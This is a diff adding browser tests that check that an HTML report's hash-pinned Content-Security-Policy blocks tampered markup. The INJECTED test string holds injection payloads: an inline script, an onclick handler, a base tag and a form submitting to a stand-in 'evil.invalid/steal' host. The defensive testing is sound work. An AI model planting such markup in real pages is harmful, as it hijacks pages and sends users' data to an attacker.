@@ -173,3 +173,70 @@ def test_store_report_dataset_section_renders(browser, tmp_path):
     assert page.locator("#grid-0 tr.sample").count() == 8
     assert events["console_errors"] == [] and events["page_errors"] == []
     page.close()
+
+
+# -- Content-Security-Policy: only the report's own script runs ----------------------------
+RECORD_CSP_VIOLATIONS = """
+window.__csp = [];
+document.addEventListener("securitypolicyviolation", e => window.__csp.push(e.effectiveDirective));
+"""
+INJECTED = (
+    '<base href="https://evil.invalid/">'
+    "<script>window.__injected = true; document.title = 'pwned';</script>"
+    '<button id="evil-button" onclick="window.__handler = true">click</button>'
+    '<form id="evil-form" action="https://evil.invalid/steal"><button>send</button></form>'
+)
+
+
+def open_with_csp_log(browser, path: Path):
+    page = browser.new_page()
+    events = {"console_errors": [], "dialogs": [], "requests": [], "page_errors": []}
+    page.on(
+        "console", lambda m: events["console_errors"].append(m.text) if m.type == "error" else None
+    )
+    page.on("pageerror", lambda e: events["page_errors"].append(str(e)))
+    page.on("request", lambda r: events["requests"].append(r.url))
+    page.add_init_script(RECORD_CSP_VIOLATIONS)  # runs before the page's own CSP applies
+    page.goto(path.resolve().as_uri())
+    page.wait_for_load_state("load")
+    return page, events
+
+
+def test_report_script_runs_under_its_hash_pinned_csp_without_violations(browser, demo_report):
+    page, events = open_with_csp_log(browser, demo_report)
+    rows = page.locator("#grid-0 tr.sample").count()
+    # only the report's script writes the counter: it ran
+    assert (
+        page.locator(".controls[data-grid='grid-0'] .count").inner_text()
+        == f"{rows} of {rows} shown"
+    )
+    page.locator("#grid-0 img.overlay").first.click()
+    assert page.locator("#zoom").evaluate("z => z.classList.contains('open')")
+    assert page.evaluate("window.__csp") == []
+    assert events["console_errors"] == [] and events["page_errors"] == []
+    page.close()
+
+
+def test_injected_script_handler_base_and_form_are_blocked_by_csp(browser, demo_report, tmp_path):
+    """Markup that got into the file some other way (not through the escaping template)."""
+    html = demo_report.read_text(encoding="utf-8")
+    tampered = tmp_path / "tampered.html"
+    tampered.write_text(html.replace("</body>", INJECTED + "</body>", 1), encoding="utf-8")
+    page, events = open_with_csp_log(browser, tampered)
+    assert page.evaluate("window.__injected") is None and page.title() != "pwned"
+    page.locator("#evil-button").click()
+    assert page.evaluate("window.__handler") is None
+    assert page.evaluate("document.baseURI").startswith("file:")
+    page.locator("#evil-form").evaluate("f => f.requestSubmit()")  # click() awaits navigation
+    page.wait_for_timeout(300)
+    assert page.url == tampered.resolve().as_uri()
+    assert not [u for u in events["requests"] if "evil.invalid" in u]
+    violated = set(page.evaluate("window.__csp"))
+    assert {"script-src-elem", "script-src-attr", "base-uri", "form-action"} <= violated, violated
+    # the report's own script still ran
+    rows = page.locator("#grid-0 tr.sample").count()
+    assert (
+        page.locator(".controls[data-grid='grid-0'] .count").inner_text()
+        == f"{rows} of {rows} shown"
+    )
+    page.close()
